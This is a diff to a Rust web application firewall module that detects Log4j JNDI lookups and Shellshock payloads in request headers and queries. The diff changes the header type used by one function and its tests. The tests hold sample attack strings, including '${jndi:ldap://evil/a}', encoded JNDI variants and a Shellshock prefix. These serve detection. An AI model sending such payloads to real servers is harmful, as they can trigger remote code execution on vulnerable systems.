@@ -2,13 +2,13 @@
 //!
 //! Part of `waf`. A small set on purpose. Paths and fields are looked at, bodies never, and in a query only what no SQL
 //! holds: SQL, Jinja and rison are Superset's daily bread, and whoever looks for them finds honest people.
-
 use std::sync::{LazyLock, OnceLock};
 
 use aho_corasick::{AhoCorasick, AhoCorasickKind};
-use http::HeaderMap;
 use http::header::{AUTHORIZATION, COOKIE};
 use memchr::memmem::Finder;
+
+use crate::head::Fields;
 
 /// First segments that belong to other software, in lower case.
 const PLACES: [&str; 33] = [
@@ -89,7 +89,7 @@ pub fn is_injected_query(query: &str) -> bool {
 
 /// Whether a field has a lookup of Log4j, or begins a function of Bash (CVE-2014-6271). Cookies and credentials are
 /// looked at by nobody: no log has them.
-pub fn is_injected_field(fields: &HeaderMap) -> bool {
+pub fn is_injected_field(fields: &Fields) -> bool {
     fields.iter().any(|(name, value)| {
         let value = value.as_bytes();
         (has_lookup(value) && name != COOKIE && name != AUTHORIZATION) || value.starts_with(b"() {")
@@ -272,10 +272,10 @@ mod tests {
         for query in ["q=${jndi:ldap://x}", "q=%24%7Bjndi:dns://x%7D", "a=1&b=${${lower:j}ndi:x}", "x=%24%7b%6andi:x"] {
             assert!(is_injected_query(query), "{query}");
         }
-        let mut fields = HeaderMap::new();
+        let mut fields = Fields::new();
         fields.insert("x-api-version", "${JNDI:ldap://evil/a}".parse().unwrap());
         assert!(is_injected_field(&fields));
-        fields.clear();
+        let mut fields = Fields::new();
         fields.insert("user-agent", "() { :;}; echo".parse().unwrap());
         assert!(is_injected_field(&fields));
     }
@@ -287,7 +287,7 @@ mod tests {
             for lookup in ["${jndi:", "%24{jndi:", "$%7bJNDI:", "%24%7B%6andi:"] {
                 for length in 0..20 {
                     let text = format!("{before}{lookup}{}", "a".repeat(length));
-                    let fields = HeaderMap::from_iter([(http::header::ACCEPT, text.parse().unwrap())]);
+                    let fields = Fields::from_iter([(http::header::ACCEPT, text.parse().unwrap())]);
                     assert!(is_injected(&text) && is_injected_query(&text) && is_injected_field(&fields), "{text}");
                 }
             }
